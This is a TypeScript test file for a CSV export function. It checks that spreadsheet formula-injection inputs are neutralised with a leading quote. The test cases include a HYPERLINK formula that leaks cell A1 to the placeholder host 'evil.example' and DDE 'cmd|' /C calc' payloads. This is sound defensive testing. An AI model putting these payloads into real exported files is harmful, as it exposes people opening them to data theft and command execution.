import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { sheetToCsv } from '@/features/supervisor/export/csv-export'
import type { Cell } from '@/features/supervisor/reports/export-tables'

const sheet = (rows: Cell[][], totals: Cell[] | null = null) => ({ name: 'x', title: 'x', header: ['户主', '心愿'], rows, totals })
/** The cells as a spreadsheet would read them back. */
const readBack = (csv: string) => Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data

describe('sheetToCsv', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    '+cmd|\' /C calc\'!A0',
    '-2+3',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
    '=1+1\n第二行',
  ])('neutralises a cell typed as %j so no spreadsheet runs it', (typed) => {
    const [, row] = readBack(sheetToCsv(sheet([['王秀梅', typed]])))
    expect(row?.[1]).toBe(`'${typed}`)
  })

  it('leaves ordinary text and numbers, negative ones included, as they are', () => {
    const csv = sheetToCsv(sheet([['王秀梅', '帮老伴理发'], ['a-b', 'x=y']], ['合计', -3]))
    expect(readBack(csv)).toEqual([['户主', '心愿'], ['王秀梅', '帮老伴理发'], ['a-b', 'x=y'], ['合计', '-3']])
  })

  it('keeps the byte-order mark, CRLF lines and RFC 4180 quoting', () => {
    expect(sheetToCsv({ name: 'x', title: 'x', header: ['a'], rows: [['he said "hi", ok']], totals: null })).toBe('\ufeffa\r\n"he said ""hi"", ok"\r\n')
  })
})
